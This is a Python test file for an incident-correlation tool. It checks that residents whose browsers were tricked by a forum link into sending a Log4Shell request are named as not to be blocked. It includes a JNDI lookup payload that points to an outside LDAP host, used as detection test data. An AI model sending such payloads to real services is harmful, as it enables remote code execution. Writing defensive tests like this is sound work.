"""The incident's first measure names the residents a planted link sent to an attack.

A forum post embeds the portal's search with a JNDI lookup as an image: 30 residents'
browsers each fetch it once. The block step and partner intel left them out, but the
incident the analyst reads said nothing of them, and its first measure was "Rate-limit or
block the flagged client addresses": an analyst blocking by hand locked 30 residents out.
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path

import msgspec
from tests.respond.test_spared_addresses import FORUM, JNDI, STRANGER, UA, Line, _analysed

from citywatch.correlate import Correlator
from citywatch.correlate.build import Member
from citywatch.detect.portal.hits import BLOCK_CLIENTS, TAKE_DOWN
from citywatch.detect.portal.links import LINKED_REQUESTS
from citywatch.model import Detection, Incident
from citywatch.respond.evidence import spared

T0 = datetime(2026, 3, 14, 8, 0, tzinfo=UTC)
HOST = "forum.example.net"
SNIPPET = "${jndi:ldap://203.0.113.9:1389/Exploit}"
RESIDENTS = [f"46.188.{k}.{10 + k}" for k in range(30)]


def _why(others: int) -> str:
    return f"a browser sent by a link on {HOST}, as {others} other addresses were"


def _fetched(k: int, *, requests: int = 1) -> Detection:
    """Resident ``k``'s detection as the signature detector emits it: a link followed while
    it counts at most LINKED_REQUESTS requests (then with the take-down measure)."""
    at = T0 + timedelta(seconds=20 * k)
    linked = requests <= LINKED_REQUESTS
    portal: dict[str, object] = {
        "class": "jndi",
        "snippet": SNIPPET,
        "requests": requests,
        "measures": [BLOCK_CLIENTS, *([TAKE_DOWN.format(host=HOST)] if linked else [])],
    }
    if linked:
        portal["referrer"] = HOST
    return Detection(
        id=f"jndi-{k}",
        timestamp=at,
        detector="web-attacks",
        rule_id="web.jndi.lookup",
        rule_name="JNDI lookup (Log4Shell)",
        severity=90,
        confidence=0.9,
        category="cyber",
        summary="s",
        entity={"target": "portal", "source.pseudonym": f"ip:{k}", "source.ip": RESIDENTS[k]},
        evidence=[f"jndi-{k}-{n}" for n in range(requests)],
        first_seen=at,
        last_seen=at + timedelta(seconds=30 * (requests - 1)),
        tags=["attack.T1190"],
        attributes={"portal": portal},
    )


def _followed(n: int) -> Correlator:
    c = Correlator()
    for k in range(n):
        c.add(_fetched(k))
    return c


def _one(c: Correlator) -> Incident:
    (incident,) = c.incidents()
    return incident


def test_an_incident_of_thirty_residents_sent_by_one_link_says_not_to_block_them() -> None:
    incident = _one(_followed(30))
    assert len(incident.detections) == 30
    first = incident.measures[0]
    assert first.startswith(
        f"Do not block {', '.join(RESIDENTS[:5])} and 25 more ({_why(29)}), "
        "whatever the measures below say of the flagged addresses"
    )
    assert BLOCK_CLIENTS in incident.measures[1:]


def test_a_resident_who_then_sends_the_attack_again_and_again_is_no_follower() -> None:
    c = _followed(30)
    c.changed()  # the incident built once: the next batch folds into its summary
    c.add(_fetched(3, requests=11))  # ten more: the detector re-emits it, linked no more
    (incident,) = c.changed()
    first = incident.measures[0]
    assert RESIDENTS[3] not in first
    named = [*RESIDENTS[:3], *RESIDENTS[4:6]]
    assert first.startswith(f"Do not block {', '.join(named)} and 24 more ({_why(28)}),")


def test_a_resident_with_another_detection_is_no_follower() -> None:
    c = _followed(30)
    c.changed()
    other = msgspec.structs.replace(
        _fetched(3, requests=6), id="sqli-3", rule_id="web.sqli.union", rule_name="UNION query"
    )
    c.add(other)
    (incident,) = c.changed()
    assert "sqli-3" in incident.detections
    assert RESIDENTS[3] not in incident.measures[0]
    assert f"and 24 more ({_why(28)})" in incident.measures[0]


def test_four_addresses_by_one_link_are_no_crowd_and_not_spared() -> None:
    incident = _one(_followed(4))
    assert not any(m.startswith("Do not block") for m in incident.measures)
    assert incident.measures[0] == BLOCK_CLIENTS


def test_a_restored_correlator_still_names_the_followers() -> None:
    c = _followed(30)
    restored = Correlator()
    restored.restore(c.snapshot())
    assert restored.incidents() == c.incidents()
    assert _one(restored).measures[0].startswith(f"Do not block {RESIDENTS[0]}, ")
    restored.add(_fetched(0, requests=3))
    assert RESIDENTS[0] not in _one(restored).measures[0]


def test_a_checkpoint_written_before_members_kept_links_still_loads() -> None:
    old = {
        "detector": "web-attacks",
        "rule_id": "r",
        "rule_name": "r",
        "severity": 90,
        "category": "cyber",
        "tags": [],
        "first": 0.0,
        "last": 0.0,
        "entity": {"source.ip": RESIDENTS[0]},
        "measures": [],
        "point": None,
    }
    m = msgspec.msgpack.decode(msgspec.msgpack.encode(old), type=Member)
    assert m.links == ()


def test_the_incident_and_the_block_step_spare_the_same_followers(tmp_path: Path) -> None:
    # the real detector's detections, through the pipeline: what the analyst reads first is
    # what the block step leaves out, for the same reason
    lines: list[Line] = [
        (20 * k, ip, "GET", JNDI, 200, FORUM, UA) for k, ip in enumerate(RESIDENTS)
    ]
    lines += [(300 + 10 * k, STRANGER, "GET", f"{JNDI}{k}", 200, "-", UA) for k in range(6)]
    result = _analysed(tmp_path, lines)
    dets = result.job.detections()
    (incident,) = [
        i for i in result.job.correlator.incidents() if RESIDENTS[0] in i.entities["source.ip"]
    ]
    left_out = spared(incident, dets)
    assert {str(ip) for ip in left_out} == set(RESIDENTS)
    (why,) = set(left_out.values())
    assert incident.measures[0].startswith(f"Do not block {RESIDENTS[0]}, ")
    assert f"and 25 more ({why})" in incident.measures[0]
    assert STRANGER not in incident.measures[0]
